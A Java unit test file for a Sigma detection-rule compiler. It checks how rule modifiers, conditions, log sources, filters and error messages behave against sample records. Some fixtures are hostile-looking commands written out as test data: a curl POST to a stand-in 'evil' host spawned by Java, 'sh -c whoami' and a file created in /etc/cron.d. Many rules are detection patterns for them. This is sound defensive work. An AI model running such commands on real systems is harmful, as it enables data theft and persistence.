package io.sysflow.policy.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sysflow.model.EnrichedRecord;
import io.sysflow.model.Severity;
import io.sysflow.policy.Languages;
import io.sysflow.policy.Policies;
import io.sysflow.policy.command.Samples;
import io.sysflow.policy.field.FieldCatalogue;
import io.sysflow.policy.ir.InvalidPolicyException;
import io.sysflow.policy.ir.Issue;
import io.sysflow.policy.ir.Language;
import io.sysflow.policy.ir.Rule;
import io.sysflow.policy.ir.RuleSet;
import io.sysflow.policy.ir.RulesFile;
import io.sysflow.policy.match.Matcher;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What Sigma rules mean: one case and more for each modifier of the specification. */
class SigmaRulesTest {

  private static final Map<String, EnrichedRecord> RECORDS =
      Map.of(
          "curl",
          Samples.record(
              "{when: exec, process: {exe: /usr/bin/curl, args: '-X POST http://evil/a?b=*'},"
                  + " ancestors: [/usr/bin/java]}"),
          "shell",
          Samples.record("{when: exec, process: {exe: /bin/sh, args: '-c whoami'}}"),
          "alone",
          Samples.record("{when: exec, process: {exe: /usr/bin/id}}"),
          "path",
          Samples.record("{when: exec, process: {exe: /usr/bin/x, args: 'C:\\dir\\a.txt'}}"),
          "encoded",
          Samples.record(
              "{when: exec, process: {exe: /usr/bin/x, args: 'aGVsbG8gd29ybGQ="
                  + " YWhlbGxvIHdvcmxk'}}"),
          "wide",
          Samples.record("{when: exec, process: {exe: /usr/bin/x, args: 'YwBtAGQA ZgBvAG8A'}}"),
          "connect",
          Samples.record("{when: connect 10.1.2.3 443, process: {exe: /usr/bin/curl}}"),
          "create",
          Samples.record("{when: open create /etc/cron.d/job, process: {exe: /bin/cp}}"),
          "read",
          Samples.record("{when: open read /etc/cron.d/job, process: {exe: /bin/cat}}"));

  private static EnrichedRecord record(String name) {
    return Objects.requireNonNull(RECORDS.get(name));
  }

  private static RuleSet compile(String content) {
    return SigmaRules.compile(List.of(new RulesFile("r.yml", content)), FieldCatalogue.standard());
  }

  private static List<String> matched(String content, EnrichedRecord record) {
    Policies.Loaded loaded =
        Policies.compile(
            "t", List.of(new RulesFile("r.yml", content)), new Languages(Language.SIGMA, false));
    return new Matcher(loaded.policy()).match(record).stream().map(m -> m.rule().name()).toList();
  }

  private static String rule(String source, String detection) {
    return "title: r\nlogsource: {product: linux, "
        + source
        + "}\ndetection:\n  "
        + detection.replace("; ", "\n  ")
        + "\n";
  }

  private static String category(String record) {
    return switch (record) {
      case "connect" -> "category: network_connection";
      case "create", "read" -> "category: file_event";
      default -> "category: process_creation";
    };
  }

  private static boolean holds(String selection, String record) {
    String content = rule(category(record), "selection: " + selection + "; condition: selection");
    return !matched(content, record(record)).isEmpty();
  }

  @ParameterizedTest(name = "{0} on {1} is {2}")
  @CsvSource(
      delimiter = '#',
      quoteCharacter = '`',
      value = {
        // values: equal, without regard to capitals, with wildcards
        "{Image: /usr/bin/CURL}                           # curl    # true",
        "{Image: /usr/bin/cur}                            # curl    # false",
        "{Image: '/usr/*/cu?l'}                           # curl    # true",
        "{Image: '*/cu??l'}                               # curl    # false",
        "{Image: [/bin/sh, /bin/bash]}                    # shell   # true",
        "{Image: /bin/sh, CommandLine: '*whoami'}         # shell   # true",
        "{Image: /bin/sh, CommandLine: '*who'}            # shell   # false",
        "[{Image: /bin/zsh}, {CommandLine: '*whoami'}]    # shell   # true",
        "[{Image: /bin/zsh}, {CommandLine: '*who'}]       # shell   # false",
        "{DestinationPort: 443}                           # connect # true",
        "{DestinationPort: '443'}                         # connect # true",
        "{DestinationPort: '44?'}                         # connect # true",
        "{DestinationPort: [80, 8080]}                    # connect # false",
        "{Initiated: 'true'}                              # connect # true",
        "{Initiated: false}                               # connect # false",
        "{DestinationIp: 10.1.2.3}                        # connect # true",
        "{DestinationIp: '10.1.*'}                        # connect # true",
        "{TargetFilename: /etc/cron.d/job}                # create  # true",
        // a backslash takes wildcards and backslashes as they are
        "{CommandLine|contains: '?b=\\*'}                 # curl    # true",
        "{CommandLine|contains: 'a\\?b=\\*'}              # curl    # true",
        "{CommandLine|contains: 'a\\?c'}                  # curl    # false",
        "{CommandLine|contains: '\\?evil'}                # curl    # false",
        "{CommandLine|contains: 'C:\\dir\\a'}             # path    # true",
        "{CommandLine|contains: 'C:\\\\dir\\\\a'}         # path    # true",
        "{CommandLine: '*:\\\\*.txt'}                     # path    # true",
        "{CommandLine: '*:\\*.txt'}                       # path    # false",
        "{CommandLine: '*dir\\\\\\*'}                     # path    # false",
        // null and nothing
        "{ParentImage: null}                              # shell   # true",
        "{ParentImage: null}                              # curl    # false",
        "{ParentImage: ''}                                # shell   # true",
        "{ParentImage: [null, /usr/bin/java]}             # curl    # true",
        // keywords
        "[WHOAMI, other]                                  # shell   # true",
        "['who*mi']                                       # shell   # true",
        "nothing                                          # shell   # false",
        "{'|all': [sh, whoami]}                           # shell   # true",
        "{'|all': [sh, other]}                            # shell   # false",
        // contains, startswith, endswith, all
        "{CommandLine|contains: HTTP}                     # curl    # true",
        "{CommandLine|contains: [x, y]}                   # shell   # false",
        "{CommandLine|contains|all: [POST, http]}         # curl    # true",
        "{CommandLine|contains|all: [POST, ftp]}          # curl    # false",
        "{Image|startswith: /USR}                         # curl    # true",
        "{Image|startswith: curl}                         # curl    # false",
        "{Image|endswith: [/wget, /curl]}                 # curl    # true",
        "{Image|endswith: /usr}                           # curl    # false",
        "{CommandLine|endswith: /id}                      # alone   # true",
        "{ParentImage|endswith: /java}                    # curl    # true",
        // exists
        "{ParentImage|exists: true}                       # curl    # true",
        "{ParentImage|exists: true}                       # shell   # false",
        "{ParentImage|exists: 'no'}                       # shell   # true",
        // cased
        "{Image|cased: /usr/bin/CURL}                     # curl    # false",
        "{Image|cased: /usr/bin/curl}                     # curl    # true",
        "{Image|endswith|cased: /CURL}                    # curl    # false",
        "{Image|startswith|cased: /usr}                   # curl    # true",
        "{CommandLine|contains|cased: post}               # curl    # false",
        "{Image|cased: '/usr/*/cu?l'}                     # curl    # true",
        // neq
        "{Image|neq: /usr/bin/wget}                       # curl    # true",
        "{Image|neq: /usr/bin/curl}                       # curl    # false",
        "{Image|neq: [/usr/bin/wget, /usr/bin/curl]}      # curl    # false",
        "{Image|endswith|neq: /curl}                      # curl    # false",
        // windash
        "{CommandLine|contains|windash: ' /c '}           # shell   # true",
        "{CommandLine|contains|windash: ' /X POST'}       # curl    # true",
        "{CommandLine|contains|windash: ' +c '}           # shell   # false",
        // re with flags
        "{CommandLine|re: 'who[a-z]mi'}                   # shell   # true",
        "{CommandLine|re: 'WHO[A-Z]MI'}                   # shell   # false",
        "{CommandLine|re|i: 'WHO[A-Z]MI'}                 # shell   # true",
        "{CommandLine|re: '^/bin/sh .* whoami$'}          # shell   # true",
        "{CommandLine|re: '^sh'}                          # shell   # false",
        "{CommandLine|re|m|s: '^/bin.*i$'}                # shell   # true",
        // base64, base64offset, utf16 and wide
        "{CommandLine|base64|contains: hello world}       # encoded # true",
        "{CommandLine|base64|contains: hello}             # encoded # false",
        "{CommandLine|base64offset|contains: hello}       # encoded # true",
        "{CommandLine|base64offset|contains: ello}        # encoded # true",
        "{CommandLine|base64offset|contains: other}       # encoded # false",
        "{CommandLine|wide|base64offset|contains: cmd}    # wide    # true",
        "{CommandLine|utf16le|base64|contains: foo}       # wide    # true",
        "{CommandLine|utf16le|base64offset|contains: bar} # wide    # false",
        "{CommandLine|utf16be|base64offset|contains: cmd} # wide    # false",
        "{CommandLine|utf16|base64|contains: cmd}         # wide    # false",
        // numbers
        "{DestinationPort|gt: 442}                        # connect # true",
        "{DestinationPort|gt: 443}                        # connect # false",
        "{DestinationPort|gte: 443}                       # connect # true",
        "{DestinationPort|lt: 443}                        # connect # false",
        "{DestinationPort|lte: 443}                       # connect # true",
        // parts of a time: samples are of 2026-01-01T00:00:10Z, a Thursday of week 1
        "{UtcTime|year: %YEAR%}                           # shell   # true",
        "{UtcTime|year|lt: %YEAR%}                        # shell   # false",
        "{UtcTime|month|gte: 1}                           # shell   # true",
        "{UtcTime|day|lte: 31}                            # shell   # true",
        "{UtcTime|week|lte: 53}                           # shell   # true",
        "{UtcTime|hour|lt: 24}                            # shell   # true",
        "{UtcTime|minute|gte: 60}                         # shell   # false",
        // cidr
        "{DestinationIp|cidr: 10.0.0.0/8}                 # connect # true",
        "{DestinationIp|cidr: [192.168.0.0/16, fe80::/10]} # connect # false",
        // fieldref
        "{Image|fieldref: proc.exepath}                   # curl    # true",
        "{Image|fieldref: ParentImage}                    # curl    # false",
        "{CommandLine|fieldref|startswith: Image}         # curl    # true",
        "{CommandLine|fieldref|endswith: Image}           # curl    # false",
        // our own names, and fields that are not there
        "{proc.name: CURL}                                # curl    # true",
        "{LogonId: 5}                                     # curl    # false",
      })
  void selectionHolds(String selection, String record, boolean expected) {
    long seconds = record(record).activity().ts() / 1_000_000_000L;
    int year = Instant.ofEpochSecond(seconds).atZone(ZoneOffset.UTC).getYear();

    assertThat(holds(selection.replace("%YEAR%", Integer.toString(year)), record))
        .isEqualTo(expected);
  }

  @ParameterizedTest(name = "{0} is {1}")
  @CsvSource({
    "a, true",
    "b, false",
    "not b, true",
    "a and b or c, true",
    "a and (b or c), true",
    "b and a or not c, false",
    "NOT b AND a, true",
    "1 of s_*, true",
    "all of s_*, false",
    "any of s_*, true",
    "1 of them, true",
    "all of them, false",
    "not 1 of t_*, true",
    "all of s_1, true",
    "a and not 1 of t_*, true",
  })
  void conditionHolds(String condition, boolean expected) {
    String content =
        rule(
            "category: process_creation",
            "a: {Image: /bin/sh}; b: {Image: x}; c: {CommandLine: '*whoami'}; s_1: {Image:"
                + " /bin/sh}; s_2: {Image: y}; t_1: {Image: z}; _hidden: {Image: q}; condition: "
                + condition);

    assertThat(!matched(content, record("shell")).isEmpty()).isEqualTo(expected);
  }

  @Test
  void severalConditionsAreAlternatives() {
    String content =
        rule(
            "category: process_creation",
            "a: {Image: /bin/sh}; b: {Image: /usr/bin/curl}; condition: [a, b]");

    assertThat(matched(content, record("shell"))).hasSize(1);
    assertThat(matched(content, record("curl"))).hasSize(1);
    assertThat(matched(content, record("alone"))).isEmpty();
  }

  @Test
  void logSourceDecidesWhichRecordsARuleSees() {
    String any = "s: {Image|contains: /}; condition: s";

    assertThat(matched(rule("category: process_creation", any), record("connect"))).isEmpty();
    assertThat(matched(rule("category: network_connection", any), record("connect"))).hasSize(1);
    assertThat(matched(rule("category: network_connection", any), record("shell"))).isEmpty();
    assertThat(matched(rule("category: file_event", any), record("create"))).hasSize(1);
    assertThat(matched(rule("category: file_event", any), record("read"))).isEmpty();
    assertThat(matched(rule("category: file_access", any), record("read"))).hasSize(1);
  }

  @Test
  void auditRulesSeeArgumentsAndCalls() {
    String source = "service: auditd";

    assertThat(
            matched(
                rule(source, "s: {type: EXECVE, a0: '*/sh', a1: '-c'}; condition: s"),
                record("shell")))
        .hasSize(1);
    assertThat(
            matched(
                rule(source, "s: {type: SYSCALL, syscall: execve}; condition: s"), record("shell")))
        .hasSize(1);
    assertThat(
            matched(
                rule(source, "s: {type: PATH, name: /etc/cron.d/job}; condition: s"),
                record("read")))
        .hasSize(1);
    assertThat(matched(rule(source, "s: {type: USER_CMD}; condition: s"), record("shell")))
        .isEmpty();
  }

  @Test
  void ruleSaysWhatItsAuthorWrote() {
    Rule rule =
        compile(
                """
                title: A title
                id: 11111111-2222-3333-4444-555555555555
                description: |
                  What it is.
                level: critical
                tags: [attack.execution, attack.t1059.004]
                logsource: {product: linux, category: process_creation}
                detection:
                  s: {Image: /x}
                  condition: s
                """)
            .rules()
            .get(0);

    assertThat(rule.name()).isEqualTo("A title");
    assertThat(rule.id()).isEqualTo("11111111-2222-3333-4444-555555555555");
    assertThat(rule.description()).isEqualTo("What it is.");
    assertThat(rule.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(rule.tags()).containsExactly("attack.execution", "attack.t1059.004");
    assertThat(rule.language()).isEqualTo(Language.SIGMA);
  }

  @Test
  void globalDocumentIsPartOfThoseAfterIt() {
    String content =
        """
        action: global
        title: common
        logsource: {product: linux}
        level: high
        ---
        id: one
        logsource: {category: process_creation}
        detection: {s: {Image: /bin/sh}, condition: s}
        ---
        id: two
        title: second
        logsource: {category: file_event}
        detection: {s: {Image: /bin/cp}, condition: s}
        """;

    assertThat(matched(content, record("shell"))).containsExactly("common");
    assertThat(matched(content, record("create"))).containsExactly("second");
    assertThat(compile(content).rules()).extracting(Rule::severity).containsOnly(Severity.ERROR);
  }

  @Test
  void aRepeatedDocumentHasOtherPartsInPlaceOfTheFirst() {
    String content =
        """
        title: first
        logsource: {product: linux, category: process_creation}
        detection: {s: {Image: /bin/no}, condition: s}
        ---
        action: repeat
        title: again
        detection: {s: {Image: /bin/sh}}
        """;

    assertThat(matched(content, record("shell"))).containsExactly("again");
  }

  @Test
  void aSourceThatNobodyKnowsHasNoRecords() {
    RuleSet rules = compile(rule("category: telephony", "s: {Image: /bin/sh}; condition: s"));

    assertThat(rules.rules()).isEmpty();
    assertThat(rules.warnings())
        .extracting(Issue::message)
        .containsExactly("rule 'r' is left out: records hold what processes do, and no such log");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "s: ; condition: s                 | r.yml:4:5: this selection is empty",
        "s: ['a', null]; condition: s      | r.yml:4:12: a keyword must not be empty",
        "s: ['']; condition: s             | r.yml:4:7: a keyword must not be empty",
        "s: {Image: a}; condition: S       | r.yml:5:14: there is no selection 'S', did you mean"
            + " 's'?",
      })
  void emptySelectionsAreRefused(String detection, String message) {
    assertThatThrownBy(() -> compile(rule("category: process_creation", detection)))
        .isInstanceOf(InvalidPolicyException.class)
        .hasMessage(message);
  }

  @Test
  void aRuleOfNoSourceIsRefused() {
    String content = "title: r\nlogsource: {}\ndetection: {s: {Image: a}, condition: s}\n";

    assertThatThrownBy(() -> compile(content))
        .hasMessage("r.yml:1:1: 'logsource' names no product, category or service");
  }

  @Test
  void placeholdersAreReplacedByTheirValues() {
    String values = "\n---\nplaceholders:\n  tool: [wget, curl]\n  empty: []\n";
    String expanded =
        rule("category: process_creation", "s: {Image|expand: '/usr/bin/%tool%'}; condition: s");
    String literal =
        rule("category: process_creation", "s: {Image: '/usr/bin/%tool%'}; condition: s");

    assertThat(matched(expanded + values, record("curl"))).hasSize(1);
    assertThat(matched(literal + values, record("curl"))).isEmpty();
    assertThatThrownBy(() -> compile(expanded))
        .hasMessage(
            "r.yml:4:21: placeholder 'tool' has no values: give them in a document 'placeholders'");
  }

  @ParameterizedTest
  @CsvSource({"'[one]', s", "'[one]', not s", "named, s", "any, s"})
  void filterTakesRecordsFromRules(String rules, String condition) {
    String content =
        """
        title: a rule
        id: one
        name: named
        logsource: {product: linux, category: process_creation}
        detection: {s: {Image|contains: bin}, condition: s}
        ---
        title: a filter
        logsource: {product: linux, category: process_creation}
        filter:
          rules: %s
          s: {Image: /bin/sh}
          condition: %s
        """
            .formatted(rules, condition);

    assertThat(matched(content, record("shell"))).isEmpty();
    assertThat(matched(content, record("curl"))).containsExactly("a rule");
  }

  @Test
  void correlationOfLeftOutRuleIsLeftOut() {
    RuleSet set =
        compile(
            """
            title: a rule
            name: base
            logsource: {product: windows, category: registry_event}
            detection: {s: {TargetObject: x}, condition: s}
            ---
            title: many
            correlation:
              type: event_count
              rules: [base]
              group-by: [User]
              timespan: 5m
              condition: {gte: 10}
            """);

    assertThat(set.skipped()).containsExactly("a rule", "many");
    assertThat(set.correlations()).isEmpty();
    assertThat(set.warnings())
        .extracting(Issue::toString)
        .endsWith("r.yml:6:1: correlation 'many' is left out, as is 'base' that it is of");
  }

  @Test
  void loadReportNamesWhatRecordsDoNotHold() {
    RuleSet set =
        compile(
            rule("category: process_creation", "s: {LogonId: 1}; condition: s")
                + "---\ntitle: w\nlogsource: {product: windows, category: registry_event}\n"
                + "detection: {s: {TargetObject: x}, condition: s}\n");

    assertThat(set.rules()).hasSize(1);
    assertThat(set.skipped()).containsExactly("w");
    assertThat(set.warnings())
        .extracting(Issue::toString)
        .containsExactly(
            "r.yml:4:7: field 'LogonId' is not there: records do not hold logon sessions",
            "r.yml:7:1: rule 'w' is left out: records are of Linux, and of what its processes do");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '#',
      quoteCharacter = '`',
      value = {
        "s: {Imag: x}; condition: s # r.yml:4:7: unknown field 'Imag', did you mean 'Image'?",
        "s: {image: x}; condition: s # r.yml:4:7: unknown field 'image', did you mean 'Image'?",
        "s: {Image|contain: x}; condition: s # r.yml:4:7: unknown modifier 'contain', did you mean"
            + " 'contains'?",
        "s: {Image|contains|startswith: x}; condition: s # r.yml:4:7: modifiers 'contains' and"
            + " 'startswith' exclude one another",
        "s: {Image|re|base64: x}; condition: s # r.yml:4:7: modifiers 'base64' and 're' exclude one"
            + " another",
        "s: {Image|i: x}; condition: s # r.yml:4:7: modifier 'i' is for regular expressions, after"
            + " 're'",
        "s: {Image|re: '(x'}; condition: s # r.yml:4:17: bad regular expression '(x': missing"
            + " closing )",
        "s: {Image|cidr: 10.0.0.0/8}; condition: s # r.yml:4:19: proc.exepath is no address, so"
            + " 'cidr' does not go with it",
        "s: {DestinationIp|cidr: 10.0}; condition: s # r.yml:4:27: expected an IP address or"
            + " network but found '10.0'",
        "s: {Image|gt: 5}; condition: s # r.yml:4:17: proc.exepath is no number, so 'gt' does not"
            + " go with it",
        "s: {DestinationPort: abc}; condition: s # r.yml:4:24: expected a whole number but found"
            + " 'abc'",
        "s: {Image|hour|contains: 5}; condition: s # r.yml:4:7: modifier 'hour' goes with a number,"
            + " or with lt, lte, gt or gte",
        "s: {Image|base64: 'a*'}; condition: s # r.yml:4:21: 'base64' takes no wildcards: put a"
            + " backslash before them",
        "s: {Image: []}; condition: s # r.yml:4:14: this list of values is empty",
        "s: {Image: x}; condition: t # r.yml:5:14: there is no selection 't'",
        "sel: {Image: x}; condition: sell # r.yml:5:14: there is no selection 'sell', did you mean"
            + " 'sel'?",
        "s: {Image: x}; condition: 1 of t_* # r.yml:5:19: no selection is meant by 't_*'",
        "s: {Image: x}; condition: s and # r.yml:5:19: expected the name of a selection but found"
            + " the end",
        "s: {Image: x}; condition: (s # r.yml:5:16: expected ')' but found the end",
        "s: {Image: x}; condition: s s # r.yml:5:16: expected 'and', 'or' or the end but found 's'",
        "s: {Image: x}; condition: s | count() > 5 # r.yml:5:16: aggregations after '|' are no"
            + " longer Sigma: write a correlation",
        "s: {Image: x}; timeframe: 5m; condition: s # r.yml:5:3: 'timeframe' is no longer Sigma:"
            + " write a correlation",
        "s: {Image: x} # r.yml:4:3: there is no 'condition'",
        "s: {}; condition: s # r.yml:4:6: this selection is empty",
        "s: {Image: {a: b}}; condition: s # r.yml:4:14: a value must be a text",
        "s: [a; condition: s # r.yml:5:12: not YAML: expected ',' or ']', but got :",
      })
  void errorSaysWhere(String detection, String message) {
    assertThatThrownBy(() -> compile(rule("category: process_creation", detection)))
        .isInstanceOf(InvalidPolicyException.class)
        .hasMessage(message);
  }

  @Test
  void ruleWithTheIdOfAnotherIsWarnedOf() {
    String rule = rule("category: process_creation", "s: {Image: /bin/sh}; condition: s");
    RuleSet set = compile("id: x-1\n" + rule + "---\nid: x-2\n" + rule + "---\nid: x-1\n" + rule);

    assertThat(set.warnings())
        .singleElement()
        .hasToString(
            "r.yml:15:1: rule 'r' has the id of rule 'r' at r.yml:1:1: what its alerts have depends"
                + " on the order");
  }
}
